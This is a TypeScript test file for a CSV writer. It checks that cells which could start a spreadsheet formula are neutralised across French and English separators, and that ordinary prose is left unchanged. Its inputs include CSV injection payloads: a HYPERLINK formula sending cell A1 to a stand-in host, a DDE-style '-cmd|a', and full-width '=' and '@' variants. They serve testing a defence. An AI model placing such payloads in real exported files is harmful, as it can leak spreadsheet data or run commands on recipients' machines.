/** A CSV is opened by people of the other language, and by programs that cut at any separator: no cell may begin a formula there. */
import { expect, it } from 'vitest';
import { textColumn } from '../column-of.ts';
import { writeCsv } from './csv.ts';

function written(text: string, language: 'fr' | 'en'): string {
	const pieces = writeCsv([textColumn('a', ['x', text]), textColumn('b', ['y', 'z'])], {
		language,
		mark: false
	});
	return [...pieces].map((bytes) => new TextDecoder().decode(bytes)).join('');
}
it.each([
	['fr', ',', 'x,=1+1'],
	['en', ';', 'x;=1+1'],
	['fr', '\t', 'x\t=1+1'],
	['en', '\t', 'x\t=1+1'],
	['fr', ',', 'x,=HYPERLINK("http://a.example/"&A1)&"'],
	['fr', ',', 'x,\u00a0"=1+1'],
	['fr', ',', 'x\n=1+1'],
	['en', ';', 'x;-cmd|a'],
	['fr', ',', 'x,＠SUM(1)']
] as const)('written for %s, cut at %j', (language, separator, text) => {
	// After a cell that is not quoted, or the marks would be seen.
	const csv = written(text, language).replaceAll('"', '');
	const formulas = csv
		.split(/\r\n|\n/)
		.flatMap((line) => line.split(separator))
		.filter((cell) => /^\s*[=+\-@＠]/.test(cell));
	expect(formulas).toEqual([]);
});

it('a sign of full width is one too', () => {
	expect(written('\uff1d1+1', 'fr')).toContain("'\uff1d1+1");
});

it.each(['Rimouski, Québec', 'oui, - non', 'de 3, -5 à 12', 'a=b', 'courriel : a@b.ca; c@d.ca'])(
	'prose stays as it is: %s',
	(text) => {
		expect(written(text, 'fr').replaceAll('"', '')).toContain(`\n${text};z`);
	}
);
